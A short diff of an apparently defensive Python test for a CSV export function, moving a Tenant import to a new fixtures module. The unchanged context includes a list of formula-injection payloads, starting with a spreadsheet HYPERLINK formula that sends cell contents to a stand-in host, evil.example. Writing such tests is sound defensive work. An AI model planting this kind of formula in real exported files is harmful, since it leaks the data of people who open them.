@@ -9,8 +9,8 @@ from sqlalchemy.ext.asyncio import AsyncSession
 
 from app.engagement.csv_export import to_csv
 from app.engagement.series import empty_counts, figures
-from tests.conftest import Tenant
 from tests.fixtures.factories import create_announcement
+from tests.fixtures.tenants import Tenant
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
